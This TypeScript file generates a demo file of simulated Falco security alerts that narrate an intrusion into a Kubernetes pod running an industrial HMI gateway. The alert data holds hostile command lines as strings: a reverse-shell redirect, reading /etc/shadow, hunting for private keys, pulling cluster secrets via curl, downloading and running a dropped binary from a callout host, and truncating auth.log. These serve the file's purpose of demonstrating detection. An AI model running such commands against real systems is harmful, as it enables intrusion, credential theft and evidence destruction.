/** Writes demo/recordings/falco.ndjson: alerts in Falco's documented JSON; Falco itself does not run on these machines. */
import { createHash } from 'node:crypto';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { commonFields, containerFields, type FalcoRule, falcoRules } from './falco-rules.ts';
import { buildImage } from './image.ts';
import { story } from './story.ts';

const target = join(import.meta.dirname, '..', 'recordings', 'falco.ndjson');

type Value = string | number | null;
type Values = Record<string, Value>;

interface Alert {
  /** Milliseconds after the first alert. */
  at_ms: number;
  rule: keyof typeof falcoRules;
  values: Values;
}

const java: Values = {
  'proc.pname': 'java',
  'proc.pexe': '/usr/bin/java',
  'proc.pexepath': '/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java',
  'proc.pcmdline': 'java -jar /opt/hmi-gateway/app.jar',
  'proc.aname[2]': 'hmi-gateway',
  'proc.aname[3]': 'containerd-shim',
  'proc.aname[4]': 'systemd',
};

function runs(cmdline: string, path: string, more: Values = {}): Values {
  const [name = ''] = cmdline.split(' ');
  return {
    ...java,
    'evt.type': 'execve',
    'evt.arg.flags': 'EXE_WRITABLE|EXE_LOWER_LAYER',
    'proc.name': name.split('/').at(-1) ?? name,
    'proc.exe': name,
    'proc.exepath': path,
    'proc.cmdline': cmdline,
    ...more,
  };
}

function connects(
  cmdline: string,
  path: string,
  to: { address: string; port: number },
  lport: number,
): Values {
  return runs(cmdline, path, {
    'evt.type': 'connect',
    'evt.arg.flags': null,
    'fd.name': `${story.podAddress}:${lport}->${to.address}:${to.port}`,
    'fd.lport': lport,
    'fd.rport': to.port,
    'fd.type': 'ipv4',
    'fd.l4proto': 'tcp',
    'fd.sip': to.address,
    'fd.rip': to.address,
  });
}

const shell = '/usr/bin/dash';
const apiserver = { address: '10.96.0.1', port: 443 };
const fromShell: Values = {
  'proc.pname': 'sh',
  'proc.pexe': 'sh',
  'proc.pexepath': shell,
  'proc.pcmdline': 'sh',
};
const upper: Values = { 'evt.arg.flags': 'EXE_WRITABLE|EXE_UPPER_LAYER' };
const reads = (file: string, program: string): Values => ({
  ...runs(`${program} ${file}`, `/usr/bin/${program}`, fromShell),
  'evt.type': 'openat',
  'evt.arg.flags': 'O_RDONLY|FD_LOWER_LAYER',
  'fd.name': file,
});

const dropped = '/tmp/.X11/kworkerd';

const alerts: readonly Alert[] = [
  { at_ms: 300, rule: 'Run shell untrusted', values: runs('sh', shell) },
  ...[0, 1, 2].map(
    (descriptor): Alert => ({
      at_ms: 320 + descriptor,
      rule: 'Redirect STDOUT/STDIN to Network Connection in Container',
      values: { ...connects('sh', shell, story.shellListener, 55408), 'evt.type': 'dup2' },
    }),
  ),
  { at_ms: 2_100, rule: 'Read sensitive file untrusted', values: reads('/etc/shadow', 'cat') },
  {
    at_ms: 3_400,
    rule: 'Search Private Keys or Passwords',
    values: runs('find / -name id_rsa', '/usr/bin/find', fromShell),
  },
  {
    at_ms: 4_200,
    rule: 'Search Private Keys or Passwords',
    values: runs('grep -r BEGIN RSA PRIVATE /opt/hmi-gateway', '/usr/bin/grep', fromShell),
  },
  {
    at_ms: 6_000,
    rule: 'Contact K8S API Server From Container',
    values: connects('curl -sk https://10.96.0.1/api/v1/namespaces', '/usr/bin/curl', apiserver, 40112),
  },
  {
    at_ms: 6_900,
    rule: 'Contact K8S API Server From Container',
    values: connects(
      'curl -sk -H @/tmp/h https://10.96.0.1/api/v1/namespaces/line-3/secrets',
      '/usr/bin/curl',
      apiserver,
      40118,
    ),
  },
  {
    at_ms: 8_800,
    rule: 'Terminal shell in container',
    values: runs('sh -c id; env', shell, { 'proc.pname': 'containerd-shim', 'proc.tty': 34816 }),
  },
  {
    at_ms: 10_500,
    rule: 'Unexpected outbound connection destination',
    values: connects(
      `curl -s -o ${dropped} http://${story.callout.address}:${story.callout.port}/`,
      '/usr/bin/curl',
      story.callout,
      61318,
    ),
  },
  {
    at_ms: 12_000,
    rule: 'Drop and execute new binary in container',
    values: runs(`${dropped} -b`, dropped, { ...fromShell, ...upper, 'proc.cwd': '/tmp/.X11/' }),
  },
  {
    at_ms: 12_400,
    rule: 'Unexpected outbound connection destination',
    values: connects(`${dropped} -b`, dropped, story.callout, 61344),
  },
  {
    at_ms: 12_420,
    rule: 'Redirect STDOUT/STDIN to Network Connection in Container',
    values: { ...connects(`${dropped} -b`, dropped, story.callout, 61344), 'evt.type': 'dup2' },
  },
  {
    at_ms: 14_000,
    rule: 'Execution from /dev/shm',
    values: runs('/dev/shm/scan 10.20.3.40', '/dev/shm/scan', {
      ...fromShell,
      ...upper,
      'evt.res': 'SUCCESS',
      'fd.name': null,
      'proc.cwd': '/dev/shm/',
    }),
  },
  {
    at_ms: 14_100,
    rule: 'Drop and execute new binary in container',
    values: runs('/dev/shm/scan 10.20.3.40', '/dev/shm/scan', {
      ...fromShell,
      ...upper,
      'proc.cwd': '/dev/shm/',
    }),
  },
  {
    at_ms: 14_150,
    rule: 'Packet socket created in container',
    values: runs('/dev/shm/scan 10.20.3.40', '/dev/shm/scan', {
      'evt.type': 'socket',
      'evt.args': 'fd=5 domain=17(AF_PACKET) type=3 proto=768',
      'evt.arg.flags': null,
    }),
  },
  {
    at_ms: 18_000,
    rule: 'Unexpected outbound connection destination',
    values: connects(`${dropped} -b`, dropped, story.callout, 61402),
  },
  {
    at_ms: 20_000,
    rule: 'Clear Log Activities',
    values: {
      ...runs('sh', shell),
      'evt.type': 'openat',
      'evt.arg.flags': 'O_TRUNC|O_CREAT|O_WRONLY|FD_UPPER_LAYER',
      'fd.name': '/var/log/auth.log',
    },
  },
];

const everywhere: Values = {
  'user.name': 'root',
  'user.uid': 0,
  'user.loginuid': -1,
  'proc.tty': 0,
  'container.id': createHash('sha256').update(story.pod).digest('hex').slice(0, 12),
  'container.image.repository': `${story.image.registry}/${story.image.repository}`,
  'container.image.tag': story.image.tag,
  'container.name': story.deployment,
  'k8s.ns.name': story.namespace,
  'k8s.pod.name': story.pod,
};

/** An RFC 4122 shape made from the alert's place, so that each run writes the same file. */
function makeUuid(place: number): string {
  const hash = createHash('sha256').update(`picket-demo-falco-${place}`).digest('hex');
  return `${hash.slice(0, 8)}-${hash.slice(8, 12)}-4${hash.slice(13, 16)}-8${hash.slice(17, 20)}-${hash.slice(20, 32)}`;
}

/**
 * One line as Falco writes it with json_output, json_include_output_property and json_include_tags_property
 * (falco.org/docs/concepts/outputs). evt.time is nanoseconds since 1970 as a JSON number, beyond 2^53.
 */
function renderAlert(alert: Alert, place: number, start: Date, digest: string): string {
  const rule: FalcoRule = falcoRules[alert.rule];
  const nanoseconds =
    BigInt(start.getTime() + alert.at_ms) * 1_000_000n + BigInt((place * 7_919_993) % 1_000_000);
  const fraction = String(nanoseconds % 1_000_000_000n).padStart(9, '0');
  const time = `${new Date(Number(nanoseconds / 1_000_000n)).toISOString().slice(0, 19)}.${fraction}Z`;
  const values: Values = { ...everywhere, ...alert.values };
  const used: Values = {};
  const details = `${rule.fields}${commonFields} ${containerFields}`.replaceAll(
    /%([a-z0-9_.]+(?:\[\d+\])?)/g,
    (_match, name: string) => {
      const value = values[name] ?? null;
      used[name] = value;
      return value === null ? '<NA>' : String(value);
    },
  );
  // What falco.yaml's append_output with extra_fields adds to the JSON alone.
  const extra: Values = { 'container.image.digest': digest };
  if (values['fd.rip'] !== undefined) extra['fd.rip'] = values['fd.rip'];
  const fields = Object.entries({ ...used, ...extra }).sort(([left], [right]) => (left < right ? -1 : 1));
  const output = `${time.slice(11, 29)}: ${rule.priority} ${rule.text} (${details})`;
  const text = JSON.stringify({
    uuid: makeUuid(place),
    output,
    priority: rule.priority,
    rule: alert.rule,
    time,
    source: 'syscall',
    tags: rule.tags,
    hostname: story.node,
    output_fields: { 'evt.time': 0, ...Object.fromEntries(fields) },
  });
  return text.replace('"evt.time":0', `"evt.time":${nanoseconds}`);
}

if (import.meta.main) {
  const { digest } = buildImage();
  const start = new Date('2026-11-23T21:07:14.310Z');
  const lines = alerts.map((alert, place) => renderAlert(alert, place, start, digest));
  await writeFile(target, `${lines.join('\n')}\n`);
}
